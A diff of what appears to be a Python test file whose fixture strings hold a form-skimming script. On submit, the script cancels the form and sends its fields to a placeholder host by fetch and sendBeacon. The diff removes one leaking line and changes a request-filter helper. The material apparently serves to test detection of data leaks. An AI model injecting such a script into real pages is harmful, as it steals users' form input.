@@ -15,7 +15,6 @@ SENDS_BESIDES = f"""<script>
 document.forms[0].addEventListener('submit', (event) => {{
   event.preventDefault();
   fetch('{ELSEWHERE}', {{method: 'POST', body: new URLSearchParams(new FormData(event.target))}});
-  fetch('{ELSEWHERE}?to=' + document.forms[0].email.value);
   navigator.sendBeacon('{ELSEWHERE}', JSON.stringify({{why: document.forms[0].why.value}}));
 }});
 </script>"""
@@ -25,7 +24,7 @@ SAVES = f"void fetch('{ELSEWHERE}', {{method: 'POST', body: 'why=No photos of mi
 
 
 def posts(rig):
-    return [one for one in rig.web.arrived if one.startswith("POST") or ELSEWHERE in one]
+    return [one for one in rig.web.arrived if one.startswith("POST")]
 
 
 def filled(rig, page):
